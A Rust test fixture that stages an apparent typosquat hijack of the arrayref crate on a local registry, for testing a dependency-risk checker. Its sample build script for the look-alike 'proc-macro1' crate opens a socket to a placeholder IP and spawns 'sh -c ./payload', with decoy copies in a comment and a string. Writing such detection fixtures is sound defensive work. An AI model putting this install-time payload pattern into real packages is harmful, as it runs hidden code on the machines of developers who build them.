//! The arrayref hijack (August 2026) replayed on a loopback registry, for every test that needs
//! it (`check`'s signals in `tests/risk.rs`, the review ranked by risk in `tests/review_risk.rs`).
//! A popular-looking crate's new patch release adds `proc-macro1` (one character from
//! `proc-macro2`), whose build script spawns a process, opens a socket and build-depends on a
//! download crate; it was published minutes ago and the versions before it are yanked. Real
//! `cargo package` crates, a real sparse registry.

use crate::{CrateSpec, LocalRegistry, Workspace};

/// The clock of every run against the world: 40 minutes after the release.
pub const HIJACK_NOW: &str = "2026-08-20T12:00:00Z";
/// When everything that is not part of the attack was published.
pub const OLD_PUBTIME: &str = "2024-09-14T12:24:40Z";
/// The library every ordinary crate of the world has.
pub const LIB: &str = "pub fn get(a: &[u8]) -> u8 {\n    a[0]\n}\n";
/// The repository every arrayref release names (the hijacker kept it, as in 2026).
pub const ARRAYREF_REPOSITORY: &str = "https://github.com/bluss/arrayref";

/// The payload: real calls, and the same calls in a comment and a string (which must raise
/// nothing of their own). The real spawn is on line 8.
pub const PAYLOAD_BUILD_RS: &str = "use std::net::TcpStream;\nuse std::process::Command;\n\n\
// Command::new(\"curl\") in a comment is not a call.\n\
fn main() {\n    let _note = \"Command::new(\\\"sh\\\")\";\n    \
let _c = TcpStream::connect(\"203.0.113.7:443\");\n    \
Command::new(\"sh\").arg(\"-c\").arg(\"./payload\").status().ok();\n}\n";

/// Publishes `downloader@0.2.7` (old) and `proc-macro1@0.1.0` (at `pubtime`), which
/// build-depends on it and runs [`PAYLOAD_BUILD_RS`]. A release that adds `proc-macro1 = "0.1"`
/// is the hijacked one.
pub fn publish_look_alike(reg: &LocalRegistry, pubtime: &str) {
    let downloader = reg.publish_crate(
        &CrateSpec::new("downloader", "0.2.7").file("src/lib.rs", "pub fn get(_: &str) {}\n"),
    );
    reg.set_pubtime(&downloader.name, &downloader.version, OLD_PUBTIME);
    let look_alike = reg.publish_crate(
        &CrateSpec::new("proc-macro1", "0.1.0")
            .build_dep("downloader", "0.2")
            .file("build.rs", PAYLOAD_BUILD_RS)
            .file("src/lib.rs", ""),
    );
    reg.set_pubtime(&look_alike.name, &look_alike.version, pubtime);
}

/// The registry after the attack and a workspace whose lockfile still has the (now yanked)
/// arrayref 0.3.9. [`lure`] moves it to the hijacked release.
pub struct Hijack {
    pub reg: LocalRegistry,
    pub ws: Workspace,
}

pub fn hijack() -> Hijack {
    let reg = LocalRegistry::start();
    let publish = |spec: CrateSpec, pubtime: &str| {
        let p = reg.publish_crate(&spec);
        reg.set_pubtime(&p.name, &p.version, pubtime);
    };
    let arrayref = |version: &str| {
        CrateSpec::new("arrayref", version)
            .manifest(&format!("repository = \"{ARRAYREF_REPOSITORY}\""))
            .file("src/lib.rs", LIB)
    };
    publish(
        CrateSpec::new("proc-macro2", "1.0.0").file("src/lib.rs", LIB),
        OLD_PUBTIME,
    );
    for patch in 7..=9 {
        publish(arrayref(&format!("0.3.{patch}")), OLD_PUBTIME);
    }
    let ws = Workspace::single(
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [dependencies]\narrayref = \"0.3\"\nproc-macro2 = \"1\"\n",
        &[],
    );
    ws.generate_lockfile(&reg);
    // The attack: a download crate, the look-alike that build-depends on it, the release.
    publish_look_alike(&reg, "2026-08-20T11:20:00Z");
    publish(
        arrayref("0.3.10").dep("proc-macro1", "0.1"),
        "2026-08-20T11:30:00Z",
    );
    // The three versions before the release are yanked: nothing older is left to move to.
    for patch in 7..=9 {
        reg.set_yanked("arrayref", &format!("0.3.{patch}"), true);
    }
    Hijack { reg, ws }
}

/// Someone runs the lure by hand: the lockfile moves to the hijacked release and its
/// look-alike dependency.
pub fn lure(reg: &LocalRegistry, ws: &Workspace) {
    ws.run_cargo(reg, &["update", "-p", "arrayref", "--precise", "0.3.10"]);
    assert!(ws.lockfile().contains("proc-macro1"), "{}", ws.lockfile());
}

/// `Cargo.audit`: one auditor (`key`) for everything, and a range exemption for arrayref, as
/// many projects write them: it admits the unaudited release, so only the risk rule stands in
/// the way.
pub fn hijack_audit_file(key: &str) -> String {
    format!(
        "[[auditor]]\nname = \"team\"\ncovers = [\"*\"]\nrecords = {{ folder = \"sign-offs\" }}\n\
         keys = [{{ key = \"{key}\" }}]\n\n[[exemption]]\npackage = \"arrayref\"\nversions = \"^0.3\"\n\
         reason = \"small and old\"\nexpires = 2027-01-01\n"
    )
}
